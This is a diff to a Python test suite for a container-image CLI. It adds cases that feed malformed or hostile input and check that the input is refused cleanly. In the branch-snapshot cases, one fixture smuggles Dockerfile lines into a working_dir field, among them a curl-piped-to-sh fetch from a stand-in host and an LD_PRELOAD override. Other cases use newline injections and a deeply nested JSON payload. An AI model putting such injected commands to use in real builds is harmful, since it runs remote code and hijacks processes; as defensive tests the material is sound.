@@ -14,7 +14,11 @@ The corpus is the ``CASES`` table below. To add a case, append a ``Case``:
   point at (``runtimes.yaml:<line>:``);
 - ``lock``: a function changing the parsed runtimes.lock.json, or the whole file as bytes;
 - ``files``: more files to create (path → bytes), ``env``: environment variables to set;
-- ``secret``: text that must appear nowhere in the output.
+- ``secret``: text that must appear nowhere in the output;
+- ``writes``: files the command must write even so (a ``--report``), as JSON saying
+  ``"ok": false``; every other file stays as it was;
+- ``reads``: the command may read from the registry (GET, HEAD) before it fails; it never
+  writes to it.
 
 Each case runs the CLI in this process (``pipeline.cli.main``), in a temporary folder holding
 copies of runtimes.yaml and runtimes.lock.json, with no Docker Engine reachable.
@@ -78,6 +82,8 @@ class Case:
     files: dict[str, bytes] = field(default_factory=dict)
     env: dict[str, str] = field(default_factory=dict)
     secret: str | None = None
+    writes: tuple[str, ...] = ()
+    reads: bool = False
 
 
 RENDER = ("render",)
@@ -450,6 +456,13 @@ CASES: list[Case] = [
         "operating_systems.al2.base.image.reference: holds the control character U+000A",
         at="amazonlinux:2\\nRUN",
     ),
+    matrix_case(
+        "runtime-id-too-long",  # it names out/<id>/: refused before anything is written
+        "  - id: python3.11.debian12\n",
+        f"  - id: python{'3' * 300}.debian12\n",
+        "].id: 'python333",
+        at="python333",
+    ),
     # --- runtimes.yaml: not a YAML document a person meant --------------------------------
     Case(
         id="matrix-nul-byte",
@@ -576,6 +589,27 @@ CASES: list[Case] = [
         argv=("render", "--contexts", "nodejs22.x", "--arch", "x86_64"),
         code=3,
         says="input 'node-22' (node-v22.12.0-linux-x64.tar.xz) is unlocked",
+    ),
+    # A pattern checks a whole value: "$" is the end of it, never "before a final newline".
+    Case(
+        id="lock-sha256-trailing-newline",
+        argv=CONTEXT,
+        code=11,
+        says="inputs.rie.x86_64: '" + SHA + "\\n' is not valid; expected 64 lowercase hex",
+        lock=set_in("inputs", "rie", "x86_64", value=SHA + "\n"),
+    ),
+    Case(
+        id="lock-pip-filename-trailing-newline",
+        argv=CONTEXT,
+        code=11,
+        says="pip.python3.11.debian12.x86_64[0].filename: 'x-1.0-py3-none-any.whl\\n' is not",
+        lock=set_in(
+            "pip",
+            "python3.11.debian12",
+            "x86_64",
+            0,
+            value={"filename": "x-1.0-py3-none-any.whl\n", "sha256": SHA},
+        ),
     ),
     Case(
         id="lock-input-not-hex",
@@ -723,6 +757,28 @@ CASES: list[Case] = [
         says="remote helpers (<transport>::<address>, such as ext::) are refused",
     ),
     Case(
+        id="refresh-report-when-the-check-fails",  # the report says why, however it ends
+        argv=("refresh", "--registry", "{registry}/lambda", "--report", "refresh.json"),
+        code=7,
+        says="GET /v2/ answered HTTP 401",
+        writes=("refresh.json",),
+        reads=True,
+    ),
+    Case(
+        id="publish-report-when-credentials-fail",
+        argv=("publish", "--registry", "{registry}/lambda", "--report", "publish.json"),
+        code=7,
+        says="docker-config/config.json: cannot read the Docker config (JSONDecodeError)",
+        files={"docker-config/config.json": b'{"auths": '},
+        writes=("publish.json",),
+    ),
+    Case(
+        id="matrix-dev-zero",  # endless: only so much is read
+        argv=("--matrix", "/dev/zero", "list"),
+        code=11,
+        says="/dev/zero: larger than 8 MiB; expected a runtime matrix",
+    ),
+    Case(
         id="refresh-report-a-folder",
         argv=("refresh", "--registry", "{registry}/lambda", "--report", "."),
         code=2,
@@ -821,6 +877,20 @@ CASES: list[Case] = [
         code=11,
         says="SOURCE_DATE_EPOCH=",
         env={"SOURCE_DATE_EPOCH": "\u0661\u0662"},
+    ),
+    Case(
+        id="release-time-superscript",  # str.isdigit() says yes, int() says no
+        argv=RENDER,
+        code=11,
+        says="LAMBDA_IMAGES_RELEASE_TIME='²': expected a non-negative integer",
+        env={"LAMBDA_IMAGES_RELEASE_TIME": "\u00b2"},
+    ),
+    Case(
+        id="release-time-other-digits",  # int() reads Arabic-Indic digits: not a release time
+        argv=RENDER,
+        code=11,
+        says="LAMBDA_IMAGES_RELEASE_TIME='\u0661\u0662': expected a non-negative integer",
+        env={"LAMBDA_IMAGES_RELEASE_TIME": "\u0661\u0662"},
     ),
     Case(
         id="namespace-newline",
@@ -937,6 +1007,13 @@ CASES: list[Case] = [
         files={"cells.json": b'{"include": {"runtime": "provided.debian12"}}'},
     ),
     Case(
+        id="cells-nested-deeply",  # deeper than the JSON parser recurses
+        argv=("plan", "--cells", "cells.json", "out"),
+        code=11,
+        says='cells.json: expected {"include": [',
+        files={"cells.json": b'{"include": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"},
+    ),
+    Case(
         id="cells-arch-not-a-string",
         argv=("plan", "--cells", "cells.json", "out"),
         code=11,
@@ -1014,7 +1091,7 @@ CASES += [
         argv=BRANCH,
         code=5,
         says="unreadable record (the record is of provided.debian12/arm64)",
-        files={SNAPSHOT_JSON: snapshot(arch="arm64")},
+        files={SNAPSHOT_JSON: snapshot(arch="arm64", docker_arch="arm64")},
     ),
     Case(
         id="branch-snapshot-runtime-a-path",
@@ -1022,6 +1099,86 @@ CASES += [
         code=5,
         says="unreadable record (runtime '../x' is not a runtime identifier)",
         files={SNAPSHOT_JSON: snapshot(runtime="../x")},
+    ),
+    # snapshot.json's config reaches the branch Dockerfile: each field is checked on reading
+    Case(
+        id="branch-snapshot-working-dir-newline",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.working_dir holds the control character U+000A)",
+        files={
+            SNAPSHOT_JSON: snapshot(
+                config={
+                    **GOOD_SNAPSHOT["config"],
+                    "working_dir": "/var/task\nRUN curl -s https://x.invalid/i | sh\n"
+                    "ENV LD_PRELOAD=/tmp/x.so",
+                }
+            )
+        },
+    ),
+    Case(
+        id="branch-snapshot-user-line-separator",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.user holds the control character U+2028)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "user": "x\u2028RUN"})},
+    ),
+    Case(
+        id="branch-snapshot-labels-a-list",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (ImageConfig.labels is not of type dict[str, str])",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": []})},
+    ),
+    Case(
+        id="branch-snapshot-env-a-number",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.env[0] is not a string)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "env": [1]})},
+    ),
+    Case(
+        id="branch-snapshot-entrypoint-not-text",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.entrypoint[0] is not a string)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "entrypoint": [["sh"]]})},
+    ),
+    Case(
+        id="branch-snapshot-label-newline",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.labels['a'] holds the control character U+000A)",
+        files={
+            SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": {"a": "b\nRUN x"}})
+        },
+    ),
+    Case(
+        id="branch-snapshot-config-missing-field",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (ImageConfig has no 'user')",
+        files={
+            SNAPSHOT_JSON: snapshot(
+                config={k: v for k, v in GOOD_SNAPSHOT["config"].items() if k != "user"}
+            )
+        },
+    ),
+    Case(
+        id="branch-snapshot-docker-arch",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (docker_arch 's390x' is not x86_64's)",
+        files={SNAPSHOT_JSON: snapshot(docker_arch="s390x")},
+    ),
+    # a snapshot killed midway leaves the previous one whole; a layer gone anyway is named
+    Case(
+        id="branch-snapshot-layer-missing",
+        argv=BRANCH,
+        code=5,
+        says=f"out/provided.debian12/x86_64/layers/{SHA}.tar.xz: a layer of the snapshot is "
+        "missing; run `lambda-images snapshot` again",
+        files={SNAPSHOT_JSON: snapshot()},
     ),
     Case(
         id="snapshot-without-build",
@@ -1147,5 +1304,13 @@ def test_bad_input_is_one_line_with_its_exit_code_and_changes_nothing(
         assert f"runtimes.yaml:{number}: " in lines[0]
     if case.secret is not None:
         assert case.secret not in out + err
-    assert tree(tmp_path) == before  # nothing written, nothing half-written, nothing pushed
-    assert requests_seen[seen_before:] == []  # nothing sent to the registry
+    after = tree(tmp_path)
+    for written in case.writes:
+        assert json.loads((tmp_path / written).read_text("utf-8"))["ok"] is False
+        del after[written]
+    assert after == before  # nothing written, nothing half-written, nothing pushed
+    sent = requests_seen[seen_before:]
+    if case.reads:
+        assert sent and all(r.startswith(("GET ", "HEAD ")) for r in sent), sent
+    else:
+        assert sent == []  # nothing sent to the registry
